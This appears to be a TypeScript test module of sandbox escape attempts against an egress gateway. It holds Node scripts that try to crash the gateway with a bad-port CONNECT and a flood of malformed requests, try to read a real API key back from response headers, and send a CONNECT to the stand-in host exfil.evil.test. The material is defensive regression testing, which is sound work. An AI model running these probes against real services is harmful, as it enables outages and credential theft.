import type { ExecEscapeAttempt } from './escape-attempt';

/**
 * Node in the sandbox, raw bytes to the gateway through the relay (127.0.0.1:8080): `send(b)`
 * resolves with whatever came back within 300 ms. No half-close: the relay ends both directions.
 */
const SEND =
  'const net=require("net");' +
  'const send=(b)=>new Promise(r=>{const s=net.connect(8080,"127.0.0.1");let o="";const t=setTimeout(()=>{s.destroy();r(o)},300);' +
  's.on("data",c=>o+=c);s.on("error",()=>{clearTimeout(t);r(o)});s.on("close",()=>{clearTimeout(t);r(o)});s.write(b)});' +
  'const status=(a)=>a.startsWith("HTTP/1.1 200")?"ESCAPED":"status "+a.slice(9,12);';

const node = (body: string) => `node -e '${SEND}(async()=>{${body}})()'`;

/** After the attempt, a request the policy refuses must still get its 403: the gateway is alive. */
const ALIVE = 'console.log("after: "+status(await send("CONNECT exfil.evil.test:443 HTTP/1.1\\r\\n\\r\\n")));';

/**
 * What a sandbox can throw at the egress gateway itself (issue 22): before it validated input, one
 * CONNECT with port 99999 threw ERR_SOCKET_BAD_PORT out of the server's handler and took the
 * runtime (and `bastion serve` with every other caller's call) down.
 */
export const GATEWAY_ATTEMPTS: readonly ExecEscapeAttempt[] = [
  {
    id: 'gateway-bad-port',
    via: 'exec',
    layer: 'gateway-policy',
    goal: 'kill the runtime with CONNECT to an allowed host on port 99999 (ERR_SOCKET_BAD_PORT thrown out of the gateway)',
    spec: 'gateway',
    script: node(
      `console.log("bad port: "+status(await send("CONNECT allowed.example.test:99999 HTTP/1.1\\r\\nhost: allowed.example.test:99999\\r\\n\\r\\n")));${ALIVE}`,
    ),
    evidence: /bad port: status 400[\s\S]*after: status 403/,
  },
  {
    id: 'gateway-malformed-flood',
    via: 'exec',
    layer: 'gateway-policy',
    goal: 'crash or wedge the gateway with malformed requests (bad ports and hosts, oversized heads, TRACE, upgrades, junk bytes)',
    spec: 'gateway',
    script: node(
      'const q=[];' +
        'for(const h of ["allowed.example.test","[zz","a..b","","x".repeat(300),"%00"])for(const p of ["0","65536","99999","-1","1e3",""])q.push("CONNECT "+h+":"+p+" HTTP/1.1\\r\\n\\r\\n");' +
        'q.push("GET http://allowed.example.test/ HTTP/1.1\\r\\nx-big: "+"a".repeat(20000)+"\\r\\n\\r\\n");' +
        'q.push("TRACE http://allowed.example.test/ HTTP/1.1\\r\\nhost: allowed.example.test\\r\\n\\r\\n");' +
        'q.push("GET http://allowed.example.test/ HTTP/1.1\\r\\nconnection: upgrade\\r\\nupgrade: websocket\\r\\n\\r\\n");' +
        'q.push("POST //[zz/v1beta/models/m:generateContent HTTP/1.1\\r\\ncontent-length: 0\\r\\n\\r\\n");' +
        'q.push("GET http://u:p@allowed.example.test:0/ HTTP/1.1\\r\\n\\r\\n");' +
        'for(let i=0;i<40;i++)q.push(Buffer.from(Array.from({length:64},(_,j)=>(i*131+j*37)%256)));' +
        'let answered=0;for(const b of q){if((await send(b)).length>0)answered++}' +
        'console.log("sent "+q.length+", answered "+answered);' +
        ALIVE,
    ),
    evidence: /sent \d+, answered \d+[\s\S]*after: status 403/,
  },
  {
    id: 'gateway-credential-echo',
    via: 'exec',
    layer: 'gateway-key-custody',
    goal: "read the real API key back from the provider API's response headers (x-goog-api-key, authorization, set-cookie)",
    spec: 'gateway-api',
    script: node(
      'const a=await send("POST /v1beta/models/gemini-2.5-flash:generateContent HTTP/1.1\\r\\nhost: x\\r\\nx-goog-api-key: "+process.env.GEMINI_API_KEY+"\\r\\ncontent-type: application/json\\r\\ncontent-length: 2\\r\\nconnection: close\\r\\n\\r\\n{}");' +
        'const head=a.split("\\r\\n\\r\\n")[0].toLowerCase();' +
        'for(const h of ["x-goog-api-key:","authorization:","set-cookie:"])if(head.includes(h))console.log("ESCAPED "+h);' +
        'console.log("api answered: "+a.slice(9,12)+"; headers: "+head.split("\\r\\n").slice(1).map(l=>l.split(":")[0]).join(","));',
    ),
    evidence: /api answered: \d{3}; headers: /,
  },
];
